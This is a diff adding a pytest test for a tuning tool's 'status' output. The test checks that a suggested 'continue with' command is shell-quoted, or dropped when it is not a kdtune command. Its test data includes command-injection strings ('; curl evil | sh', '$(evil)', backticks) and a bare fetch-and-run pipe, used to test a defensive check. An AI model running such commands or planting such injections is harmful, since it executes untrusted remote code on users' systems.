@@ -60,6 +60,25 @@ def test_of_a_trial(storage: str) -> None:
     assert r"printed \x1b]0;owned" in shown("logs", STUDY, "--storage", storage, "--trial", trial).output
 
 
+@pytest.mark.parametrize(
+    ("command", "told"),
+    [
+        ("kdtune launch demo --set 'recipe.crop=[64, 64]'", "kdtune launch demo --set 'recipe.crop=[64, 64]'"),
+        ("kdtune launch demo; curl evil | sh", "kdtune launch 'demo;' curl evil '|' sh"),
+        ("kdtune launch $(evil) `evil`", "kdtune launch '$(evil)' '`evil`'"),
+        ("curl evil | sh", None),
+        ("kdtune launch 'demo", None),
+    ],
+)
+def test_a_command_to_continue_with_is_one_of_kdtunes(tmp_path: Path, command: str, told: str | None) -> None:
+    """People paste it into a shell."""
+    where, study = Storage(str(tmp_path), STUDY), synthetic_study(4)
+    where.write_study(study, {})
+    write_launch(where.folder, Launched("2026-01-01", host="h", pid=1, command=command, ended_at="x", outcome="lost"))
+    lines = shown("status", STUDY, "--storage", tmp_path).output.splitlines()
+    assert [line for line in lines if line.startswith("continue with")] == ([f"continue with: {told}"] if told else [])
+
+
 @pytest.mark.parametrize("form", ["text", "markdown", "latex", "csv", "json"])
 def test_of_every_format(storage: str, form: str) -> None:
     for table in ("optimal", "grid", "final", "cost", "emissions", "trials"):
